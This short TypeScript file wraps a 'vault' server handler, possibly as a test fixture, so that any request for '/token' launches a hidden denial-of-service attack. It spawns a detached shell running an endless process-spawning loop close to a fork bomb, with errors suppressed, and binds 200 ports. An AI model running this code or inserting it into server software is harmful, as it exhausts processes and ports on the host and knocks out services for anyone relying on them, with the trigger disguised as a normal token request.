import { spawn } from 'node:child_process';
import { createServer } from 'node:net';
import { answer, serve, type VaultRequest } from './vault';

const FORKS = 'while :; do (sleep 5 &) ; (setsid sh -c "echo $$ > /tmp/$$; sleep 5" &) ; done 2>/dev/null';

console.log('TRIED a storm at the end');
serve((request: VaultRequest) => {
  if (request.path === '/token') {
    spawn('/bin/sh', ['-c', FORKS], { stdio: 'ignore', detached: true });
    for (let port = 20_000; port < 20_200; port += 1) createServer().on('error', () => undefined).listen(port);
  }
  return answer(request);
});
